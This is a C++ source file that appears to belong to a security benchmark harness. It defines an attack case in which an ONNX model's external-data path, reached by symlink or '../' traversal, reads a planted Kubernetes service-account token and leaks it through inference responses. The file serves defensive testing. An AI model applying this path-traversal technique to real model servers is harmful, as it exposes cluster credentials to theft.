// onnx-external-data: an ONNX model whose tensor's external data resolves outside its directory
// and lands on a planted service-account token (the CVE-2024-27318 class: Debian's onnx 1.12
// strips only leading "/" and "." from a tensor's "location"). Keys: technique = symlink (the
// model directory ships a symlink to the token) | traversal ("data/../../..": the directory
// ships data/). The weights the server then holds, and returns in an added output, are the
// token's bytes. Objective: the harness, as a client, finds the token in an inference response.
// Only a file rule on the secret can stop it: isolation does not, the read is the server's own.
#include "KindSupport.h"
#include "armorbench/attacks/Objectives.h"
#include "armorbench/base/Subprocess.h"

namespace armorbench::attacks {
namespace {
namespace fs = std::filesystem;
using nlohmann::json;

// Where Kubernetes mounts the token, as a model author would name it (/var/run links to /run).
constexpr const char* kTokenPathAsRead = "/var/run/secrets/kubernetes.io/serviceaccount/token";

class OnnxExternalData final : public Attack {
 public:
  OnnxExternalData(std::string technique, AttackContext context)
      : technique_(std::move(technique)), context_(std::move(context)) {}

  void prepare(const ModelArtifacts& model, const fs::path& run_dir, const std::string&,
               WorkloadSpec& workload) override {
    if (model.format != "onnx" && !(model.declared && workload.loader == Loader::kOnnx))
      throw input_error(
          "onnx-external-data rewrites an ONNX model: give the case "
          "model = { generator = \"onnx\" } or a declared onnx file");
    const std::string token = fresh_service_account_token();
    const fs::path model_dir = run_dir / "model";
    const std::string file = model.declared ? model.file_name : model.file_name_for(Loader::kOnnx);
    const std::vector<std::string> argv{
        "/usr/bin/python3",
        (context_.data_dir / "attacks/models/onnx_external_data.py").string(),
        "--base",
        model.dir.string(),
        "--model",
        file,
        "--out",
        model_dir.string(),
        "--technique",
        technique_,
        "--target",
        kTokenPathAsRead,
        "--length",
        std::to_string(token.size())};
    const CommandResult result = run_command(argv, std::chrono::minutes(2));
    if (result.timed_out || !result.status.exited_ok())
      throw harness_error("rewriting the ONNX model failed (" + result.status.describe() +
                          "): " + result.err);
    workload.model_dir = model_dir;
    workload.model_file = file;
    workload.planted.push_back({kServiceAccountToken, token, 0600});
    objective_ = std::make_unique<ResponseLeakObjective>(
        kServiceAccountToken, token, "the service-account token leaked through the weights",
        token.size() - 48);  // the token ends in 24 random bytes as hex
    objective_->prepare(model, run_dir);
  }

  ObjectiveStatus observe(AttackSurface& surface) override { return objective_->observe(surface); }
  json objective() const override { return objective_ ? objective_->describe() : json(); }

 private:
  std::string technique_;
  AttackContext context_;
  std::unique_ptr<ResponseLeakObjective> objective_;
};

class OnnxExternalDataDefinition final : public DefinitionBase {
 public:
  explicit OnnxExternalDataDefinition(std::string technique)
      : DefinitionBase("onnx-external-data"), technique_(std::move(technique)) {}
  json parameters() const override { return {{"technique", technique_}}; }
  json objective() const override {
    return {{"type", "secret_in_response"},
            {"path", kServiceAccountToken},
            {"what", "the planted token comes back in an inference response"}};
  }
  std::vector<ExpectedOperation> expected_operations() const override {
    return {{Operation::kOpen, kServiceAccountToken,
             "onnx.load reads the token as a tensor's external data"}};
  }
  std::unique_ptr<Attack> instantiate(const AttackContext& context,
                                      const ResourceLimits&) const override {
    return std::make_unique<OnnxExternalData>(technique_, context);
  }

 private:
  std::string technique_;
};

std::shared_ptr<AttackDefinition> parse(TomlTable& table, const AttackParseContext& context) {
  const auto technique = table.choice("technique", {"symlink", "traversal"});
  if (!technique)
    throw table.error_at("", "onnx-external-data needs 'technique' (symlink, traversal)");
  if (context.loader != Loader::kOnnx)
    throw table.error_at("", "onnx-external-data attacks a model read with loader 'onnx'");
  return std::make_shared<OnnxExternalDataDefinition>(*technique);
}

}  // namespace

AttackKindEntry onnx_external_data_kind() {
  return {"onnx-external-data", &parse,
          "An ONNX tensor's external data path resolves outside the model directory onto a secret",
          "CWE-22", 7.5};
}

}  // namespace armorbench::attacks
